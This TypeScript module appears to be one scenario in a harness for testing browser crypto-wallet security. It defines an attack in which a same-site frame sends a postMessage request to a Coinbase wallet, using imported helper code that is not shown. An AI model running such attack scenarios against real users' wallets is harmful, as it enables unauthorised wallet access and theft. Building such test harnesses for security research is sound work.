import type { Attack } from '../Attack.ts';
import { COINBASE, COINBASE_PATH } from '../otherMakes.ts';

/** From a frame of the same site, where the wallet stands as well. */
export const attack: Attack = {
  entry: 'frame, window.postMessage to Coinbase',
  mechanism: 'one request',
  discovers: false,
  path: COINBASE_PATH,
  script: `${COINBASE}
kit.frame({ src: '/coinbase.html?wallet=coinbase' });
`,
  files: {
    '/coinbase.html': `<!doctype html><script><!--kit--></script><script>(async () => {${COINBASE}
post(named(kit.send()));
})()</script>`,
  },
};
